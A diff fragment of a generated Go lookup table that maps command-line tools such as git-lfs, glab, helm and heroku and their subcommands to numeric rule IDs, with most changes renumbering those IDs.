-	{name: "git-lfs", grammar: []uint32{0x1a0020}, generic: []uint32{0xd0029, 0x1a0020}, subs: []genSub{{"checkout", []uint32{0x1a0022}}, {"clean", []uint32{0x1a0022}}, {"clone", []uint32{0x1a0022}}, {"dedup", []uint32{0x1a0022}}, {"env", []uint32{0x1a0021}}, {"ext", []uint32{0x1a0021}}, {"fetch", []uint32{0x1a0022}}, {"filter-process", []uint32{0x1a0022}}, {"fsck", []uint32{0x1a0021}}, {"install", []uint32{0x1a0022}}, {"lock", []uint32{0x1a0022}}, {"locks", []uint32{0x1a0021}}, {"logs", []uint32{0x1a0021}}, {"ls-files", []uint32{0x1a0021}}, {"merge-driver", []uint32{0x1a0022}}, {"migrate", []uint32{0x1a0022}}, {"pointer", []uint32{0x1a0021}}, {"post-checkout", []uint32{0x1a0022}}, {"post-commit", []uint32{0x1a0022}}, {"post-merge", []uint32{0x1a0022}}, {"pre-push", []uint32{0x1a0022}}, {"prune", []uint32{0x1a0022}}, {"pull", []uint32{0x1a0022}}, {"push", []uint32{0x1a0022}}, {"smudge", []uint32{0x1a0022}}, {"standalone-file", []uint32{0x1a0022}}, {"status", []uint32{0x1a0021}}, {"track", []uint32{0x1a0021}}, {"uninstall", []uint32{0x1a0022}}, {"unlock", []uint32{0x1a0022}}, {"untrack", []uint32{0x1a0022}}, {"update", []uint32{0x1a0022}}, {"version", []uint32{0x1a0021}}}, ruleKnown: true},
-	{name: "glab", grammar: []uint32{0x50001, 0x1a000e}, generic: []uint32{0x1a000e}, subs: []genSub{{"--version", []uint32{0x50011}}, {"alias", []uint32{0x5000f, 0x1a000f, 0x1a0010, 0x1a0018}}, {"api", []uint32{0x5000a, 0x5000f, 0x50010, 0x1a0017}}, {"attestation", []uint32{0x5000f, 0x1a000f}}, {"auth", []uint32{0x50007, 0x5000f, 0x1a000f, 0x1a0015, 0x1a0018}}, {"browse", []uint32{0x5000f}}, {"cache", []uint32{0x50006, 0x5000f}}, {"changelog", []uint32{0x1a000f, 0x1a0010}}, {"check-update", []uint32{0x1a000f}}, {"ci", []uint32{0x50006, 0x5000f, 0x1a000f, 0x1a0010, 0x1a0011, 0x1a0014}}, {"cluster", []uint32{0x1a000f, 0x1a0010, 0x1a0018}}, {"codespace", []uint32{0x50006, 0x5000f}}, {"completion", []uint32{0x50011, 0x1a000f, 0x1a0018}}, {"config", []uint32{0x5000f, 0x1a000f, 0x1a0016, 0x1a0018}}, {"deploy-key", []uint32{0x50006, 0x1a000f, 0x1a0010, 0x1a0011}}, {"duo", []uint32{0x1a000f, 0x1a0018}}, {"environment", []uint32{0x50006, 0x5000f, 0x1a000f, 0x1a0010, 0x1a0011}}, {"extension", []uint32{0x50006, 0x5000f}}, {"gist", []uint32{0x50006, 0x5000f, 0x50012}}, {"gpg-key", []uint32{0x50006, 0x5000f, 0x1a000f, 0x1a0010, 0x1a0012, 0x1a0013}}, {"help", []uint32{0x50011}}, {"incident", []uint32{0x1a000f, 0x1a0010, 0x1a0011}}, {"issue", []uint32{0x50006, 0x50008, 0x5000f, 0x50012, 0x1a000f, 0x1a0010, 0x1a0011}}, {"iteration", []uint32{0x50006, 0x1a000f, 0x1a0010}}, {"job", []uint32{0x50006, 0x5000f, 0x1a000f, 0x1a0010, 0x1a0014}}, {"label", []uint32{0x50006, 0x5000f, 0x50012, 0x1a000f, 0x1a0010, 0x1a0011}}, {"milestone", []uint32{0x50006, 0x1a000f, 0x1a0010, 0x1a0011}}, {"mr", []uint32{0x50006, 0x50008, 0x5000f, 0x50012, 0x1a000f, 0x1a0010, 0x1a0011, 0x1a0014}}, {"opentofu", []uint32{0x1a000f, 0x1a0018}}, {"org", []uint32{0x5000f}}, {"package", []uint32{0x50006}}, {"pipeline", []uint32{0x50006, 0x5000f, 0x1a000f, 0x1a0010, 0x1a0011}}, {"pr", []uint32{0x50006, 0x50008, 0x5000f, 0x50012}}, {"project", []uint32{0x50006, 0x5000f, 0x1a000f, 0x1a0010, 0x1a0011}}, {"release", []uint32{0x50006, 0x5000f, 0x50012, 0x1a000f, 0x1a0010, 0x1a0012, 0x1a0013, 0x1a0014}}, {"repo", []uint32{0x50004, 0x5000f, 0x50012, 0x1a000f, 0x1a0010, 0x1a0011, 0x1a0014}}, {"ruleset", []uint32{0x50006, 0x5000f}}, {"run", []uint32{0x50006, 0x5000f}}, {"runner", []uint32{0x1a000f, 0x1a0010}}, {"schedule", []uint32{0x50006, 0x1a000f, 0x1a0010, 0x1a0011}}, {"search", []uint32{0x5000f}}, {"secret", []uint32{0x50007, 0x5000f}}, {"securefile", []uint32{0x1a000f, 0x1a0010, 0x1a0012, 0x1a0013, 0x1a0014}}, {"snippet", []uint32{0x50006, 0x5000f, 0x1a000f, 0x1a0010, 0x1a0012, 0x1a0013}}, {"ssh-key", []uint32{0x50006, 0x5000f, 0x1a000f, 0x1a0010, 0x1a0012, 0x1a0013}}, {"stack", []uint32{0x1a000f, 0x1a0018}}, {"status", []uint32{0x5000f, 0x50011}}, {"tag", []uint32{0x50006}}, {"token", []uint32{0x1a000f, 0x1a0011}}, {"user", []uint32{0x1a000f}}, {"variable", []uint32{0x50006, 0x50007, 0x5000f, 0x1a000f, 0x1a0011, 0x1a0016}}, {"version", []uint32{0x50011, 0x1a000f}}, {"workflow", []uint32{0x5000f}}}, ruleKnown: true},
+	{name: "git-lfs", grammar: []uint32{0x1a0021}, generic: []uint32{0xd0029, 0x1a0021}, subs: []genSub{{"checkout", []uint32{0x1a0023}}, {"clean", []uint32{0x1a0023}}, {"clone", []uint32{0x1a0023}}, {"dedup", []uint32{0x1a0023}}, {"env", []uint32{0x1a0022}}, {"ext", []uint32{0x1a0022}}, {"fetch", []uint32{0x1a0023}}, {"filter-process", []uint32{0x1a0023}}, {"fsck", []uint32{0x1a0022}}, {"install", []uint32{0x1a0023}}, {"lock", []uint32{0x1a0023}}, {"locks", []uint32{0x1a0022}}, {"logs", []uint32{0x1a0022}}, {"ls-files", []uint32{0x1a0022}}, {"merge-driver", []uint32{0x1a0023}}, {"migrate", []uint32{0x1a0023}}, {"pointer", []uint32{0x1a0022}}, {"post-checkout", []uint32{0x1a0023}}, {"post-commit", []uint32{0x1a0023}}, {"post-merge", []uint32{0x1a0023}}, {"pre-push", []uint32{0x1a0023}}, {"prune", []uint32{0x1a0023}}, {"pull", []uint32{0x1a0023}}, {"push", []uint32{0x1a0023}}, {"smudge", []uint32{0x1a0023}}, {"standalone-file", []uint32{0x1a0023}}, {"status", []uint32{0x1a0022}}, {"track", []uint32{0x1a0022}}, {"uninstall", []uint32{0x1a0023}}, {"unlock", []uint32{0x1a0023}}, {"untrack", []uint32{0x1a0023}}, {"update", []uint32{0x1a0023}}, {"version", []uint32{0x1a0022}}}, ruleKnown: true},
+	{name: "glab", grammar: []uint32{0x50001, 0x1a000f}, generic: []uint32{0x1a000f}, subs: []genSub{{"--version", []uint32{0x50011}}, {"alias", []uint32{0x5000f, 0x1a0010, 0x1a0011, 0x1a0019}}, {"api", []uint32{0x5000a, 0x5000f, 0x50010, 0x1a0018}}, {"attestation", []uint32{0x5000f, 0x1a0010}}, {"auth", []uint32{0x50007, 0x5000f, 0x1a0010, 0x1a0016, 0x1a0019}}, {"browse", []uint32{0x5000f}}, {"cache", []uint32{0x50006, 0x5000f}}, {"changelog", []uint32{0x1a0010, 0x1a0011}}, {"check-update", []uint32{0x1a0010}}, {"ci", []uint32{0x50006, 0x5000f, 0x1a0010, 0x1a0011, 0x1a0012, 0x1a0015}}, {"cluster", []uint32{0x1a0010, 0x1a0011, 0x1a0019}}, {"codespace", []uint32{0x50006, 0x5000f}}, {"completion", []uint32{0x50011, 0x1a0010, 0x1a0019}}, {"config", []uint32{0x5000f, 0x1a0010, 0x1a0017, 0x1a0019}}, {"deploy-key", []uint32{0x50006, 0x1a0010, 0x1a0011, 0x1a0012}}, {"duo", []uint32{0x1a0010, 0x1a0019}}, {"environment", []uint32{0x50006, 0x5000f, 0x1a0010, 0x1a0011, 0x1a0012}}, {"extension", []uint32{0x50006, 0x5000f}}, {"gist", []uint32{0x50006, 0x5000f, 0x50012}}, {"gpg-key", []uint32{0x50006, 0x5000f, 0x1a0010, 0x1a0011, 0x1a0013, 0x1a0014}}, {"help", []uint32{0x50011}}, {"incident", []uint32{0x1a0010, 0x1a0011, 0x1a0012}}, {"issue", []uint32{0x50006, 0x50008, 0x5000f, 0x50012, 0x1a0010, 0x1a0011, 0x1a0012}}, {"iteration", []uint32{0x50006, 0x1a0010, 0x1a0011}}, {"job", []uint32{0x50006, 0x5000f, 0x1a0010, 0x1a0011, 0x1a0015}}, {"label", []uint32{0x50006, 0x5000f, 0x50012, 0x1a0010, 0x1a0011, 0x1a0012}}, {"milestone", []uint32{0x50006, 0x1a0010, 0x1a0011, 0x1a0012}}, {"mr", []uint32{0x50006, 0x50008, 0x5000f, 0x50012, 0x1a0010, 0x1a0011, 0x1a0012, 0x1a0015}}, {"opentofu", []uint32{0x1a0010, 0x1a0019}}, {"org", []uint32{0x5000f}}, {"package", []uint32{0x50006}}, {"pipeline", []uint32{0x50006, 0x5000f, 0x1a0010, 0x1a0011, 0x1a0012}}, {"pr", []uint32{0x50006, 0x50008, 0x5000f, 0x50012}}, {"project", []uint32{0x50006, 0x5000f, 0x1a0010, 0x1a0011, 0x1a0012}}, {"release", []uint32{0x50006, 0x5000f, 0x50012, 0x1a0010, 0x1a0011, 0x1a0013, 0x1a0014, 0x1a0015}}, {"repo", []uint32{0x50004, 0x5000f, 0x50012, 0x1a0010, 0x1a0011, 0x1a0012, 0x1a0015}}, {"ruleset", []uint32{0x50006, 0x5000f}}, {"run", []uint32{0x50006, 0x5000f}}, {"runner", []uint32{0x1a0010, 0x1a0011}}, {"schedule", []uint32{0x50006, 0x1a0010, 0x1a0011, 0x1a0012}}, {"search", []uint32{0x5000f}}, {"secret", []uint32{0x50007, 0x5000f}}, {"securefile", []uint32{0x1a0010, 0x1a0011, 0x1a0013, 0x1a0014, 0x1a0015}}, {"snippet", []uint32{0x50006, 0x5000f, 0x1a0010, 0x1a0011, 0x1a0013, 0x1a0014}}, {"ssh-key", []uint32{0x50006, 0x5000f, 0x1a0010, 0x1a0011, 0x1a0013, 0x1a0014}}, {"stack", []uint32{0x1a0010, 0x1a0019}}, {"status", []uint32{0x5000f, 0x50011}}, {"tag", []uint32{0x50006}}, {"token", []uint32{0x1a0010, 0x1a0012}}, {"user", []uint32{0x1a0010}}, {"variable", []uint32{0x50006, 0x50007, 0x5000f, 0x1a0010, 0x1a0012, 0x1a0017}}, {"version", []uint32{0x50011, 0x1a0010}}, {"workflow", []uint32{0x5000f}}}, ruleKnown: true},
 	{name: "gmake", grammar: []uint32{0x240041}, generic: []uint32{0x240041}, subs: nil, ruleKnown: false},
 	{name: "gnuplot", grammar: []uint32{0x1c0085}, generic: []uint32{0x1c0085}, subs: nil, ruleKnown: false},
 	{name: "go", grammar: []uint32{0xa0003, 0x240010}, generic: []uint32{0xa000c, 0x240010}, subs: []genSub{{"bug", []uint32{0xa0014, 0x240019}}, {"build", []uint32{0xa0014, 0x24001a}}, {"clean", []uint32{0xa0016, 0x24001a}}, {"doc", []uint32{0xa0014, 0x240014}}, {"env", []uint32{0xa0014, 0x240012}}, {"fix", []uint32{0xa0016, 0x24001a}}, {"fmt", []uint32{0xa0016, 0x24001a}}, {"generate", []uint32{0x24001a}}, {"get", []uint32{0xa0016, 0x24001a}}, {"help", []uint32{0xa0014, 0x240019}}, {"install", []uint32{0xa0016, 0x24001a}}, {"list", []uint32{0xa0014, 0x240013}}, {"mod", []uint32{0xa0014, 0xa0015, 0x240016, 0x240017, 0x240018, 0x24001a}}, {"run", []uint32{0x24001a}}, {"telemetry", []uint32{0x24001a}}, {"test", []uint32{0xa0014, 0x24001a}}, {"tool", []uint32{0x24001a}}, {"version", []uint32{0xa0014, 0x240011}}, {"vet", []uint32{0xa0014, 0x240015}}, {"work", []uint32{0xa0014, 0xa0015, 0x240017, 0x240018, 0x24001a}}}, ruleKnown: true},
@@ -2278,7 +2289,7 @@ var generatedExeIndex = []genExe{
 	{name: "groupmod", grammar: nil, generic: []uint32{0x100020}, subs: nil, ruleKnown: true},
 	{name: "groups", grammar: []uint32{0x15002d}, generic: []uint32{0xd0016, 0x15002d}, subs: nil, ruleKnown: true},
 	{name: "gsed", grammar: []uint32{0x230004}, generic: []uint32{0x230004}, subs: nil, ruleKnown: false},
-	{name: "gsutil", grammar: []uint32{0x10002, 0x13003b}, generic: []uint32{0x1000d, 0x10017, 0x13003b}, subs: []genSub{{"cat", []uint32{0x13003c}}, {"cp", []uint32{0x13003d}}, {"du", []uint32{0x13003c}}, {"hash", []uint32{0x13003c}}, {"ls", []uint32{0x13003c}}, {"mv", []uint32{0x13003e}}, {"rsync", []uint32{0x13003d}}, {"stat", []uint32{0x13003c}}, {"version", []uint32{0x13003c}}}, ruleKnown: true},
+	{name: "gsutil", grammar: []uint32{0x10002, 0x130040}, generic: []uint32{0x1000d, 0x10017, 0x130040}, subs: []genSub{{"cat", []uint32{0x130041}}, {"cp", []uint32{0x130042}}, {"du", []uint32{0x130041}}, {"hash", []uint32{0x130041}}, {"ls", []uint32{0x130041}}, {"mv", []uint32{0x130043}}, {"rsync", []uint32{0x130042}}, {"stat", []uint32{0x130041}}, {"version", []uint32{0x130041}}}, ruleKnown: true},
 	{name: "gtester", grammar: []uint32{0x1c0087}, generic: []uint32{0x1c0087}, subs: nil, ruleKnown: false},
 	{name: "guile", grammar: []uint32{0x1c0088}, generic: []uint32{0x1c0088}, subs: nil, ruleKnown: false},
 	{name: "gunzip", grammar: []uint32{0x110014}, generic: []uint32{0xd0021, 0xd002e, 0x110014}, subs: nil, ruleKnown: true},
@@ -2288,14 +2299,14 @@ var generatedExeIndex = []genExe{
 	{name: "haproxy", grammar: []uint32{0x10001b}, generic: []uint32{0x10001f}, subs: nil, ruleKnown: true},
 	{name: "hash", grammar: []uint32{0x120019}, generic: []uint32{0xd0016, 0x120019}, subs: nil, ruleKnown: true},
 	{name: "hashcat", grammar: []uint32{0x1c0089}, generic: []uint32{0x1c0089}, subs: nil, ruleKnown: false},
-	{name: "hatch", grammar: []uint32{0x1f0040}, generic: []uint32{0xa0005, 0x1f0040}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"build", []uint32{0xa0019, 0x1f0043}}, {"cache", []uint32{0xa0019}}, {"check", []uint32{0xa0019}}, {"clean", []uint32{0x1f0043}}, {"config", []uint32{0xa0019, 0x1f0042, 0x1f0043}}, {"debug", []uint32{0xa0019}}, {"dep", []uint32{0x1f0042, 0x1f0043}}, {"env", []uint32{0xa0019, 0x1f0042, 0x1f0043}}, {"export", []uint32{0xa0019}}, {"fmt", []uint32{0x1f0043}}, {"freeze", []uint32{0xa0019}}, {"help", []uint32{0xa0019}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019}}, {"inspect", []uint32{0xa0019}}, {"list", []uint32{0xa0019}}, {"lock", []uint32{0xa0019}}, {"new", []uint32{0x1f0043}}, {"project", []uint32{0x1f0043}}, {"publish", []uint32{0x1f0043}}, {"python", []uint32{0x1f0042, 0x1f0043}}, {"run", []uint32{0xa0019, 0x1f0043}}, {"search", []uint32{0xa0019}}, {"self", []uint32{0x1f0043}}, {"shell", []uint32{0xa0019, 0x1f0043}}, {"show", []uint32{0xa0019}}, {"status", []uint32{0x1f0041}}, {"sync", []uint32{0xa0019}}, {"test", []uint32{0x1f0043}}, {"tree", []uint32{0xa0019}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019, 0x1f0043}}}, ruleKnown: true},
+	{name: "hatch", grammar: []uint32{0x1f0042}, generic: []uint32{0xa0005, 0x1f0042}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"build", []uint32{0xa0019, 0x1f0045}}, {"cache", []uint32{0xa0019}}, {"check", []uint32{0xa0019}}, {"clean", []uint32{0x1f0045}}, {"config", []uint32{0xa0019, 0x1f0044, 0x1f0045}}, {"debug", []uint32{0xa0019}}, {"dep", []uint32{0x1f0044, 0x1f0045}}, {"env", []uint32{0xa0019, 0x1f0044, 0x1f0045}}, {"export", []uint32{0xa0019}}, {"fmt", []uint32{0x1f0045}}, {"freeze", []uint32{0xa0019}}, {"help", []uint32{0xa0019}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019}}, {"inspect", []uint32{0xa0019}}, {"list", []uint32{0xa0019}}, {"lock", []uint32{0xa0019}}, {"new", []uint32{0x1f0045}}, {"project", []uint32{0x1f0045}}, {"publish", []uint32{0x1f0045}}, {"python", []uint32{0x1f0044, 0x1f0045}}, {"run", []uint32{0xa0019, 0x1f0045}}, {"search", []uint32{0xa0019}}, {"self", []uint32{0x1f0045}}, {"shell", []uint32{0xa0019, 0x1f0045}}, {"show", []uint32{0xa0019}}, {"status", []uint32{0x1f0043}}, {"sync", []uint32{0xa0019}}, {"test", []uint32{0x1f0045}}, {"tree", []uint32{0xa0019}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019, 0x1f0045}}}, ruleKnown: true},
 	{name: "hcloud", grammar: nil, generic: []uint32{0x10012}, subs: nil, ruleKnown: true},
 	{name: "hd", grammar: []uint32{0x230008}, generic: []uint32{0x230008}, subs: nil, ruleKnown: false},
 	{name: "hdparm", grammar: nil, generic: []uint32{0x100010}, subs: nil, ruleKnown: true},
 	{name: "head", grammar: []uint32{0xd0000, 0x15000d}, generic: []uint32{0xd0016, 0xe0004, 0xe000f, 0xe0016, 0x15000d}, subs: nil, ruleKnown: true},
-	{name: "helm", grammar: []uint32{0x90002, 0x140021}, generic: []uint32{0xa0005, 0x140021}, subs: []genSub{{"completion", []uint32{0x90015, 0x140029}}, {"del", []uint32{0x9000c, 0x14002d}}, {"delete", []uint32{0x9000c, 0x14002d}}, {"dep", []uint32{0x14002b, 0x14002c}}, {"dependency", []uint32{0x90015, 0x14002b, 0x14002c}}, {"env", []uint32{0x90015, 0x140029}}, {"fetch", []uint32{0x14002d}}, {"get", []uint32{0x90015, 0x140023, 0x140024}}, {"hist", []uint32{0x140022}}, {"history", []uint32{0x90015, 0x140022}}, {"inspect", []uint32{0x140026}}, {"install", []uint32{0x9000e, 0x90016, 0x140025}}, {"lint", []uint32{0x90015, 0x140025}}, {"list", []uint32{0x90015, 0x140022}}, {"ls", []uint32{0x90015, 0x140022}}, {"package", []uint32{0x90016, 0x14002d}}, {"plugin", []uint32{0x90015, 0x14002a, 0x14002d}}, {"pull", []uint32{0x90016, 0x14002d}}, {"push", []uint32{0x90016, 0x14002d}}, {"registry", []uint32{0x14002d}}, {"repo", []uint32{0x90015, 0x14002a, 0x14002c}}, {"rollback", []uint32{0x9000d, 0x14002d}}, {"search", []uint32{0x90015, 0x140027, 0x140028}}, {"show", []uint32{0x90015, 0x140026}}, {"status", []uint32{0x90015, 0x140022}}, {"template", []uint32{0x90015, 0x140025}}, {"test", []uint32{0x90016, 0x14002d}}, {"un", []uint32{0x9000c, 0x14002d}}, {"uninstall", []uint32{0x9000c, 0x14002d}}, {"upgrade", []uint32{0x9000e, 0x90016, 0x140025}}, {"verify", []uint32{0x90015}}, {"version", []uint32{0x90015, 0x140029}}}, ruleKnown: true},
+	{name: "helm", grammar: []uint32{0x90002, 0x140021}, generic: []uint32{0xa0005, 0x140021}, subs: []genSub{{"completion", []uint32{0x90015, 0x14002a}}, {"del", []uint32{0x9000c, 0x14002f}}, {"delete", []uint32{0x9000c, 0x14002f}}, {"dep", []uint32{0x14002c, 0x14002d}}, {"dependency", []uint32{0x90015, 0x14002c, 0x14002d}}, {"env", []uint32{0x90015, 0x14002a}}, {"fetch", []uint32{0x14002e}}, {"get", []uint32{0x90015, 0x140023, 0x140024}}, {"hist", []uint32{0x140022}}, {"history", []uint32{0x90015, 0x140022}}, {"inspect", []uint32{0x140027}}, {"install", []uint32{0x9000e, 0x90016, 0x140025}}, {"lint", []uint32{0x90015, 0x140026}}, {"list", []uint32{0x90015, 0x140022}}, {"ls", []uint32{0x90015, 0x140022}}, {"package", []uint32{0x90016, 0x14002e}}, {"plugin", []uint32{0x90015, 0x14002b, 0x14002e}}, {"pull", []uint32{0x90016, 0x14002e}}, {"push", []uint32{0x90016, 0x14002e}}, {"registry", []uint32{0x14002e}}, {"repo", []uint32{0x90015, 0x14002b, 0x14002d}}, {"rollback", []uint32{0x9000d, 0x14002e}}, {"search", []uint32{0x90015, 0x140028, 0x140029}}, {"show", []uint32{0x90015, 0x140027}}, {"status", []uint32{0x90015, 0x140022}}, {"template", []uint32{0x90015, 0x140026}}, {"test", []uint32{0x90016, 0x14002e}}, {"un", []uint32{0x9000c, 0x14002f}}, {"uninstall", []uint32{0x9000c, 0x14002f}}, {"upgrade", []uint32{0x9000e, 0x90016, 0x140025}}, {"verify", []uint32{0x90015}}, {"version", []uint32{0x90015, 0x14002a}}}, ruleKnown: true},
 	{name: "help", grammar: []uint32{0x120017}, generic: []uint32{0xd0016, 0x120017}, subs: nil, ruleKnown: true},
-	{name: "heroku", grammar: []uint32{0x13005a}, generic: []uint32{0x10012, 0x13005a}, subs: []genSub{{"--version", []uint32{0x13005c}}, {"access", []uint32{0x13005c}}, {"addons", []uint32{0x13005c}}, {"apps", []uint32{0x13005c}}, {"apps:info", []uint32{0x13005c}}, {"auth:login", []uint32{0x13005e}}, {"auth:logout", []uint32{0x13005e}}, {"auth:token", []uint32{0x13005b}}, {"auth:whoami", []uint32{0x13005c}}, {"buildpacks", []uint32{0x13005c}}, {"certs", []uint32{0x13005c}}, {"config", []uint32{0x13005b}}, {"config:get", []uint32{0x13005b}}, {"console", []uint32{0x13005d}}, {"domains", []uint32{0x13005c}}, {"drains", []uint32{0x13005c}}, {"features", []uint32{0x13005c}}, {"git:clone", []uint32{0x13005e}}, {"git:remote", []uint32{0x13005e}}, {"info", []uint32{0x13005c}}, {"labs", []uint32{0x13005c}}, {"local", []uint32{0x13005d}}, {"local:run", []uint32{0x13005d}}, {"login", []uint32{0x13005e}}, {"logout", []uint32{0x13005e}}, {"logs", []uint32{0x13005c}}, {"pg:credentials", []uint32{0x13005b}}, {"pg:credentials:url", []uint32{0x13005b}}, {"pg:info", []uint32{0x13005c}}, {"pg:psql", []uint32{0x13005d}}, {"pipelines", []uint32{0x13005c}}, {"ps", []uint32{0x13005c}}, {"ps:exec", []uint32{0x13005d}}, {"redis:cli", []uint32{0x13005d}}, {"regions", []uint32{0x13005c}}, {"releases", []uint32{0x13005c}}, {"run", []uint32{0x13005d}}, {"run:detached", []uint32{0x13005d}}, {"spaces", []uint32{0x13005c}}, {"stack", []uint32{0x13005c}}, {"status", []uint32{0x13005c}}, {"teams", []uint32{0x13005c}}, {"version", []uint32{0x13005c}}, {"whoami", []uint32{0x13005c}}}, ruleKnown: true},
+	{name: "heroku", grammar: []uint32{0x13005f}, generic: []uint32{0x10012, 0x13005f}, subs: []genSub{{"--version", []uint32{0x130061}}, {"access", []uint32{0x130061}}, {"addons", []uint32{0x130061}}, {"apps", []uint32{0x130061}}, {"apps:info", []uint32{0x130061}}, {"auth:login", []uint32{0x130063}}, {"auth:logout", []uint32{0x130063}}, {"auth:token", []uint32{0x130060}}, {"auth:whoami", []uint32{0x130061}}, {"buildpacks", []uint32{0x130061}}, {"certs", []uint32{0x130061}}, {"config", []uint32{0x130060}}, {"config:get", []uint32{0x130060}}, {"console", []uint32{0x130062}}, {"domains", []uint32{0x130061}}, {"drains", []uint32{0x130061}}, {"features", []uint32{0x130061}}, {"git:clone", []uint32{0x130063}}, {"git:remote", []uint32{0x130063}}, {"info", []uint32{0x130061}}, {"labs", []uint32{0x130061}}, {"local", []uint32{0x130062}}, {"local:run", []uint32{0x130062}}, {"login", []uint32{0x130063}}, {"logout", []uint32{0x130063}}, {"logs", []uint32{0x130061}}, {"pg:credentials", []uint32{0x130060}}, {"pg:credentials:url", []uint32{0x130060}}, {"pg:info", []uint32{0x130061}}, {"pg:psql", []uint32{0x130062}}, {"pipelines", []uint32{0x130061}}, {"ps", []uint32{0x130061}}, {"ps:exec", []uint32{0x130062}}, {"redis:cli", []uint32{0x130062}}, {"regions", []uint32{0x130061}}, {"releases", []uint32{0x130061}}, {"run", []uint32{0x130062}}, {"run:detached", []uint32{0x130062}}, {"spaces", []uint32{0x130061}}, {"stack", []uint32{0x130061}}, {"status", []uint32{0x130061}}, {"teams", []uint32{0x130061}}, {"version", []uint32{0x130061}}, {"whoami", []uint32{0x130061}}}, ruleKnown: true},
 	{name: "hexdump", grammar: []uint32{0x230008}, generic: []uint32{0xe0004, 0xe000f, 0xe0016, 0x230008}, subs: nil, ruleKnown: true},
 	{name: "hg", grammar: []uint32{0x1c008a}, generic: []uint32{0x1c008a}, subs: []genSub{{"annot", []uint32{0x1c008e}}, {"annotate", []uint32{0x1c008e}}, {"blame", []uint32{0x1c008e}}, {"bookmark", []uint32{0x1c0092}}, {"bookmarks", []uint32{0x1c0092}}, {"branch", []uint32{0x1c0092}}, {"branches", []uint32{0x1c0092}}, {"cat", []uint32{0x1c008f}}, {"config", []uint32{0x1c0094}}, {"debugconfig", []uint32{0x1c0094}}, {"diff", []uint32{0x1c008d}}, {"files", []uint32{0x1c0090}}, {"grep", []uint32{0x1c0095}}, {"heads", []uint32{0x1c008c}}, {"help", []uint32{0x1c0093}}, {"history", []uint32{0x1c008c}}, {"id", []uint32{0x1c0091}}, {"identify", []uint32{0x1c0091}}, {"locate", []uint32{0x1c0090}}, {"log", []uint32{0x1c008c}}, {"manifest", []uint32{0x1c0090}}, {"parents", []uint32{0x1c008c}}, {"paths", []uint32{0x1c0093}}, {"root", []uint32{0x1c0093}}, {"showconfig", []uint32{0x1c0094}}, {"st", []uint32{0x1c008b}}, {"status", []uint32{0x1c008b}}, {"sum", []uint32{0x1c0093}}, {"summary", []uint32{0x1c0093}}, {"tags", []uint32{0x1c0092}}, {"tip", []uint32{0x1c008c}}, {"version", []uint32{0x1c0093}}}, ruleKnown: false},
 	{name: "highlight", grammar: []uint32{0x1c0096}, generic: []uint32{0x1c0096}, subs: nil, ruleKnown: false},
@@ -2308,7 +2319,7 @@ var generatedExeIndex = []genExe{
 	{name: "htop", grammar: []uint32{0x220011}, generic: []uint32{0xd0016, 0x220011}, subs: nil, ruleKnown: true},
 	{name: "http", grammar: []uint32{0x50002, 0x1e0004}, generic: []uint32{0x5000b, 0x5000c, 0x5000d, 0x5000e, 0x50014, 0xe000a, 0xe000b, 0xe000c, 0xe001d, 0xf0011, 0x1e0004}, subs: nil, ruleKnown: true},
 	{name: "https", grammar: []uint32{0x1e0004}, generic: []uint32{0x5000b, 0x5000c, 0x5000d, 0x5000e, 0x50014, 0xe000a, 0xe000b, 0xe000c, 0xe001d, 0xf0011, 0x1e0004}, subs: nil, ruleKnown: true},
-	{name: "hub", grammar: []uint32{0x1a0019}, generic: []uint32{0x1a0019}, subs: []genSub{{"alias", []uint32{0x5000f}}, {"api", []uint32{0x5000f, 0x1a001a}}, {"attestation", []uint32{0x5000f}}, {"auth", []uint32{0x5000f}}, {"browse", []uint32{0x5000f, 0x1a001b}}, {"cache", []uint32{0x5000f}}, {"ci", []uint32{0x5000f}}, {"ci-status", []uint32{0x1a001a}}, {"codespace", []uint32{0x5000f}}, {"compare", []uint32{0x1a001a}}, {"config", []uint32{0x5000f}}, {"create", []uint32{0x1a001a}}, {"delete", []uint32{0x1a001a}}, {"environment", []uint32{0x5000f}}, {"extension", []uint32{0x5000f}}, {"fork", []uint32{0x1a001a}}, {"gist", []uint32{0x5000f, 0x50012, 0x1a001a}}, {"gpg-key", []uint32{0x5000f}}, {"issue", []uint32{0x5000f, 0x50012, 0x1a001a}}, {"job", []uint32{0x5000f}}, {"label", []uint32{0x5000f, 0x50012}}, {"mr", []uint32{0x5000f, 0x50012}}, {"org", []uint32{0x5000f}}, {"pipeline", []uint32{0x5000f}}, {"pr", []uint32{0x5000f, 0x50012, 0x1a001a}}, {"project", []uint32{0x5000f}}, {"pull-request", []uint32{0x1a001a}}, {"release", []uint32{0x5000f, 0x50012, 0x1a001a}}, {"repo", []uint32{0x50004, 0x5000f, 0x50012}}, {"ruleset", []uint32{0x5000f}}, {"run", []uint32{0x5000f}}, {"search", []uint32{0x5000f}}, {"secret", []uint32{0x5000f}}, {"snippet", []uint32{0x5000f}}, {"ssh-key", []uint32{0x5000f}}, {"status", []uint32{0x5000f}}, {"sync", []uint32{0x1a001a}}, {"variable", []uint32{0x5000f}}, {"workflow", []uint32{0x5000f}}}, ruleKnown: true},
+	{name: "hub", grammar: []uint32{0x1a001a}, generic: []uint32{0x1a001a}, subs: []genSub{{"alias", []uint32{0x5000f}}, {"api", []uint32{0x5000f, 0x1a001b}}, {"attestation", []uint32{0x5000f}}, {"auth", []uint32{0x5000f}}, {"browse", []uint32{0x5000f, 0x1a001c}}, {"cache", []uint32{0x5000f}}, {"ci", []uint32{0x5000f}}, {"ci-status", []uint32{0x1a001b}}, {"codespace", []uint32{0x5000f}}, {"compare", []uint32{0x1a001b}}, {"config", []uint32{0x5000f}}, {"create", []uint32{0x1a001b}}, {"delete", []uint32{0x1a001b}}, {"environment", []uint32{0x5000f}}, {"extension", []uint32{0x5000f}}, {"fork", []uint32{0x1a001b}}, {"gist", []uint32{0x5000f, 0x50012, 0x1a001b}}, {"gpg-key", []uint32{0x5000f}}, {"issue", []uint32{0x5000f, 0x50012, 0x1a001b}}, {"job", []uint32{0x5000f}}, {"label", []uint32{0x5000f, 0x50012}}, {"mr", []uint32{0x5000f, 0x50012}}, {"org", []uint32{0x5000f}}, {"pipeline", []uint32{0x5000f}}, {"pr", []uint32{0x5000f, 0x50012, 0x1a001b}}, {"project", []uint32{0x5000f}}, {"pull-request", []uint32{0x1a001b}}, {"release", 